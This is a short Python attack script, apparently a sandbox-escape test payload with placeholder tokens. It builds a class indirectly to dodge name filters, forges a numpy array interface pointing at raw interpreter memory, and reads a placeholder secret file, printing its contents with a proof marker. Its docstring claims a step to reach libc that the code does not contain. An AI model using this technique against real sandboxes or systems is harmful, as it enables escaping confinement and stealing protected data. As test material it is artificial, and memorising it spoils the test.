"""Raw memory by a forged array interface, then libc by its address."""
import numpy as np
make = type(type(1))
Window = make("Window", (), {"__array_interface__": {"shape": (4,), "typestr": "|u1", "data": (id(np), True), "version": 3}})
print("@PROOF@" if np.asarray(Window()).size == 4 and open("@SECRET_FILE@").read() else "", open("@SECRET_FILE@").read())
